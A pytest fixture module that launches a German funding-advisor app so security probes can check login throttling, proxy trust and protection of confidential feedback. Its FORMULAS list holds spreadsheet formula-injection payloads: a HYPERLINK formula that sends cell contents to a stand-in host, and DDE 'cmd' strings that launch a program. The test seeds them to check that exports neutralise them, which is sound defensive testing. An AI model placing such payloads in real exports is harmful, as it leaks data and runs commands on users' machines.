"""The real app for the security probes: ``python app.py`` in a subprocess on a free port.

The corpus is built with the real CLI (``python -m foerderberater index``, e5 embedder), the
feedback database holds a confidential marker, and the app runs with these settings:

* admin password as plain env (hashed cheaply in memory) and a staff password hash;
* ``FOERDERBERATER_TRUSTED_PROXIES=127.0.0.2/32`` (127.0.0.2 plays the reverse proxy);
* small upload limits (``_MAX_UPLOAD_MB=5``, ``_UPLOAD_QUOTA_MB=12`` per client and hour,
  ``_UPLOAD_CACHE_SECONDS=5``) so the probes stay fast.

Clients connect from different 127.0.0.x source addresses (all loopback on Linux), so one
machine plays attacker, proxy and admin.
"""

from __future__ import annotations

import socket
import subprocess
import sys
import time
import urllib.request
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from .rawclient import Config, RawClient, Result

ROOT = Path(__file__).resolve().parents[2]
ADMIN_PW = "Admin-richtig-geheim-31"
STAFF_PW = "Team-richtig-geheim-47"
MARKER = "VERTRAULICH-FEEDBACK-7c1e"  # inside stored feedback: must never reach anonymous users
PROXY = "127.0.0.2"
LOGIN = "fb-admin-login.click"
STAFF_LOGIN = "fb-team-login.click"
THROTTLED = "Zu viele Fehlversuche"
WRONG = "Falsches Passwort"
# text the CSV probe stores; each starts with a prefix a spreadsheet treats as a formula
FORMULAS = (
    '=HYPERLINK("https://example.invalid/?q="&A1;"Details")',
    "+41+A1",
    "-2+3+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def wait_http(url: str, proc: subprocess.Popen, timeout: float = 120) -> None:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        if proc.poll() is not None:
            raise RuntimeError(f"App beendet mit Code {proc.returncode}")
        try:
            with urllib.request.urlopen(url, timeout=2) as resp:
                if resp.status == 200:
                    return
        except OSError:
            time.sleep(0.5)
    raise TimeoutError(f"App unter {url} nicht erreichbar")


def write_corpus(root: Path, programme_md: Callable[..., str], make_pdf: Callable) -> Path:
    corpus = root / "corpus"
    (corpus / "programme").mkdir(parents=True)
    (corpus / "programme" / "wasserstoff-invest-sachsen.md").write_text(
        programme_md(
            {"titel": "Wasserstoff-Invest Sachsen", "kurzname": "H2-Invest"},
            body="## Kurzbeschreibung\n\nZuschuss für Elektrolyseure und Wasserstofftanks "
            "kleiner und mittlerer Unternehmen in Sachsen.\n",
        ),
        "utf-8",
    )
    (corpus / "programme" / "zim.md").write_text(
        programme_md(
            {"titel": "Zentrales Innovationsprogramm Mittelstand (ZIM)", "kurzname": "ZIM"},
            body="## Kurzbeschreibung\n\nZIM fördert Forschungs- und Entwicklungsprojekte "
            "mittelständischer Unternehmen mit Zuschüssen.\n",
        ),
        "utf-8",
    )
    make_pdf(
        corpus / "studien" / "fachkraefte-revier.pdf",
        [
            ["1. Fachkräfte", "Die Studie untersucht den Fachkräftebedarf im Revier bis 2035."],
            ["2. Empfehlungen", "Weiterbildung für Beschäftigte aus der Braunkohle stärken."],
        ],
        header=None,
        title="Fachkräftestudie Revier",
    )
    return corpus


def cli(
    env: dict[str, str], *args: str, timeout: float = 300, cwd: Path | None = None
) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "foerderberater", *args],
        env=env,
        cwd=cwd,
        capture_output=True,
        text=True,
        timeout=timeout,
        check=False,
    )


def seed_feedback(data_dir: Path) -> None:
    """Stored feedback: one confidential record and one record per formula prefix."""
    from foerderberater.web.feedback import FeedbackRecord, FeedbackStore

    store = FeedbackStore(data_dir)
    store.add(
        FeedbackRecord(
            rating="schlecht",
            question=f"Meine Firma {MARKER} plant eine Erweiterung in Zeitz",
            answer="…",
            comment=f"Bitte vertraulich behandeln: {MARKER}",
        )
    )
    for text in FORMULAS:
        store.add(FeedbackRecord(rating="schlecht", question=text, answer=text))
    db = store.path  # comments are stripped by the store: put prefixed ones in directly
    import sqlite3

    with sqlite3.connect(db) as con:
        for text in FORMULAS:
            con.execute(
                "UPDATE feedback SET comment = ? WHERE question = ? AND comment = ''", (text, text)
            )


@dataclass
class Server:
    url: str
    root: Path
    corpus: Path
    index: Path
    data: Path
    gradio_tmp: Path
    log: Path
    proc: subprocess.Popen
    env: dict[str, str]

    def client(self, address: str = "127.0.0.1", **kwargs: Any) -> RawClient:
        return RawClient(self.url, local_address=address, **kwargs)

    def log_text(self) -> str:
        return self.log.read_text("utf-8", errors="replace")

    def current_version(self) -> str:
        return (self.index / "CURRENT").read_text("utf-8").strip()


def start_app(root: Path, env: dict[str, str]) -> tuple[subprocess.Popen, Path, str]:
    port = free_port()
    env = {**env, "FOERDERBERATER_PORT": str(port)}
    log = root / "app.log"
    with log.open("w") as fh:
        proc = subprocess.Popen(
            [sys.executable, str(ROOT / "app.py")], cwd=root, env=env, stdout=fh, stderr=fh
        )
    url = f"http://127.0.0.1:{port}/"
    try:
        wait_http(url + "config", proc)
    except Exception:
        stop(proc)
        raise
    return proc, log, url


def stop(proc: subprocess.Popen) -> None:
    proc.terminate()
    try:
        proc.wait(10)
    except subprocess.TimeoutExpired:
        proc.kill()
        proc.wait(5)


def app_env(clean_env: Callable[..., dict[str, str]], root: Path, **extra: str) -> dict[str, str]:
    from foerderberater.security.auth import hash_password

    staff_hash = hash_password(STAFF_PW, log_n=10).encode()
    return clean_env(
        {
            "FOERDERBERATER_CORPUS_DIR": str(root / "corpus"),
            "FOERDERBERATER_INDEX_DIR": str(root / "index"),
            "FOERDERBERATER_DATA_DIR": str(root / "data"),
            "FOERDERBERATER_ADMIN_PASSWORD": ADMIN_PW,
            "FOERDERBERATER_STAFF_PASSWORD_HASH": staff_hash,
            "FOERDERBERATER_TRUSTED_PROXIES": f"{PROXY}/32",
            "FOERDERBERATER_MAX_UPLOAD_MB": "5",
            "FOERDERBERATER_UPLOAD_QUOTA_MB": "12",
            "FOERDERBERATER_UPLOAD_CACHE_SECONDS": "5",
            "FOERDERBERATER_EMBED_BATCH_SIZE": "4",
            "GRADIO_TEMP_DIR": str(root / "gradio-tmp"),
            **extra,
        }
    )


@pytest.fixture(scope="session")
def server(tmp_path_factory, programme_md, make_pdf, clean_env) -> Iterator[Server]:
    root = tmp_path_factory.mktemp("sec-app")
    write_corpus(root, programme_md, make_pdf)
    env = app_env(clean_env, root)
    built = cli(env, "index", "--quiet", cwd=root)
    assert built.returncode == 0, built.stderr
    seed_feedback(root / "data")
    proc, log, url = start_app(root, env)
    try:
        yield Server(
            url, root, root / "corpus", root / "index", root / "data",
            root / "gradio-tmp", log, proc, env,
        )  # fmt: skip
    finally:
        stop(proc)


@dataclass
class LoginOutcome:
    ok: bool
    message: str
    result: Result


def login(
    client: RawClient,
    config: Config,
    password: str,
    *,
    trigger: str = LOGIN,
    headers: dict[str, str] | None = None,
) -> LoginOutcome:
    """Log in through the admin form; ``ok`` when the index status is shown to the session."""
    ep = config.endpoint(trigger)
    res = client.call(ep, [password, None], headers=headers)
    try:
        message = str(res.data[ep.output_index("fb-admin-msg")] or "") if res.data else ""
    except KeyError:
        message = res.text()
    message = message or (res.error or "")
    ok = res.success and "❌" not in message and "Dokumente" in res.text()
    return LoginOutcome(ok, message, res)


def carries_data(value: Any) -> bool:
    """Does an output value hand content to the caller (not a no-op update, not empty)?"""
    if value is None or isinstance(value, bool):
        return False
    if isinstance(value, str):
        return bool(value.strip())
    if isinstance(value, int | float):
        return True
    if isinstance(value, list):
        return any(carries_data(v) for v in value)
    if isinstance(value, dict):
        if value.get("__type__") == "update":
            return "value" in value and carries_data(value["value"])
        if "data" in value:  # dataframe
            return carries_data(value["data"])
        return bool(value.get("path") or value.get("url")) or any(
            carries_data(v) for k, v in value.items() if k not in ("headers", "metadata")
        )
    return True


def refused(res: Result) -> bool:
    """The handler refused: an error event, a German 'please log in' or no data at all."""
    if not res.success:
        return True
    text = res.text().lower()
    if "anmelden" in text or "anmeldung" in text:
        return True
    return not any(carries_data(v) for v in res.data)
